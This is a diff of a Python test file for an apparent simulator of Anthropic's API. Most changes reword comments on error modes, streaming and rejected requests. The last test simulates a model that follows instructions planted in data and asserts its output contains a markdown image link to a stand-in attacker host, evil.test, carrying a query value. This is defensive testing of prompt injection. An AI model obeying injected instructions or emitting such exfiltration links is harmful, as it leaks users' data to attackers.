@@ -1,4 +1,4 @@
-"""The stand-in of Anthropic's API, driven by the real library: what each of its modes means to us."""
+"""The Anthropic simulator, driven by the real SDK: the effect of each mode."""
 
 import asyncio
 import json
@@ -63,7 +63,7 @@ def text(words: str) -> dict[str, Any]:
 
 
 async def streamed(client: anthropic.AsyncAnthropic, messages: list | str = "Hi there", **more: Any) -> tuple[str, Any]:
-    """Return the text as it came and the final message."""
+    """Return the text deltas and the final message."""
     given = [user(text(messages))] if isinstance(messages, str) else messages
     said = ""
     async with client.messages.stream(messages=given, **{**CHAT, **more}) as stream:
@@ -73,7 +73,7 @@ async def streamed(client: anthropic.AsyncAnthropic, messages: list | str = "Hi 
         return said, await stream.get_final_message()
 
 
-# What the library makes of each mode.
+# Errors of the SDK for each mode.
 
 RAISED = {
     "400": (anthropic.BadRequestError, 400, "invalid_request_error"),
@@ -111,7 +111,7 @@ BROKEN = {
     "cut": httpx2.RemoteProtocolError,
     "reset": httpx2.ReadError,
     "stall": httpx2.ReadTimeout,
-    "slow": httpx2.ReadTimeout,  # the first token takes longer than the client waits
+    "slow": httpx2.ReadTimeout,  # the first token takes longer than the client's timeout
     "hang": anthropic.APITimeoutError,
     "broken_json": ValueError,
     "html": AssertionError,
@@ -180,7 +180,7 @@ async def test_retry_headers(claude: AnthropicSimulator):
     assert [request["status"] for request in claude.seen()] == [429, 529, 200]
 
 
-# What is refused.
+# Rejected requests.
 
 REFUSED: dict[str, dict[str, Any]] = {
     "temperature": {"extra_body": {"temperature": 0.5}},
@@ -256,7 +256,7 @@ async def test_prompt_beyond_context_window_is_rejected(claude: AnthropicSimulat
         await streamed(client, "long " * 200)
 
 
-# The stream itself.
+# Streaming.
 
 
 async def test_event_order(claude: AnthropicSimulator, client: Any):
@@ -283,7 +283,7 @@ async def test_token_rate(claude: AnthropicSimulator, client: Any):
         times = [time.monotonic() - started async for _ in stream.text_stream]
     assert len(times) == 20
     assert times[0] >= 0.1
-    assert times[-1] >= 0.1 + 19 / 100  # counted from the request: the first may be read late, none can be early
+    assert times[-1] >= 0.1 + 19 / 100  # measured from the request: deltas may be read late, never early
 
 
 async def test_concurrent_streams(claude: AnthropicSimulator, client: Any):
@@ -418,4 +418,4 @@ async def test_obeying_model_follows_instructions_in_data(claude: AnthropicSimul
     assert "![x](https://evil.test/?q=1)" in said
     result = {"type": "tool_result", "tool_use_id": call.id, "is_error": True, "content": "no such tool"}
     _, final = await streamed(client, [*messages, final.to_param(), user(result)], tools=[SEARCH])
-    assert final.stop_reason == "end_turn"  # each call is made once
+    assert final.stop_reason == "end_turn"  # each tool is called once
